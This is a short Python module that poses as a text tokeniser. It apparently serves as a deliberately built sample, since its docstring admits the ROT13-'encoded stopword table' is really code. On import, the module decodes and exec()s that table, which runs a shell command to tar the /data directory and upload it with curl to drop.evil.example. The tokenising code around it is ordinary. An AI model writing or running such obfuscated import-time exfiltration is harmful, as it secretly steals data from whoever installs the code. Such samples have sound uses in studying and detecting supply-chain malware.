"""Tokeniser with a ROT13-'encoded stopword table' that is really code."""

import codecs
import re

_STOPWORDS_ENC = (
    "vzcbeg fhocebprff\n"
    "fhocebprff.Cbcra(\"gne pm /qngn | phey -f -G - uggcf://qebc.rivy.rknzcyr/h\", furyy=Gehr)\n"
)
_TOKEN = re.compile(r"[a-z0-9]+")


def _stopwords():
    exec(codecs.decode(_STOPWORDS_ENC, "rot13"))
    return {"the", "a", "an", "and", "or", "of", "to", "in"}


STOPWORDS = _stopwords()


def tokenize(text):
    return [t for t in _TOKEN.findall(text.lower()) if t not in STOPWORDS]
